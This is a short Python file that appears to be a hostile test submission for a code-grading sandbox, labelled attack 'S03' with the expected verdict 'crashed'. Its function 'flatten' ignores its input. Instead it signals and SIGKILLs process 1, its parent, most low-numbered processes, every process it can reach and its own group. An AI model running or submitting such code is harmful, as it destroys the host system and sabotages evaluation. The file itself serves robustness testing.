# exercise: flatten
# attack: S03
# must: earn no more than a stub
# verdicts: crashed
# within: 60 seconds
"""Kills its parent, its siblings, its group and process 1 in every way there is, and then itself."""

import os
import signal


def flatten(items):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGKILL):
        for process in (1, os.getppid(), *range(2, 400)):
            if process == os.getpid():
                continue
            try:
                os.kill(process, number)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.killpg(0, signal.SIGKILL)
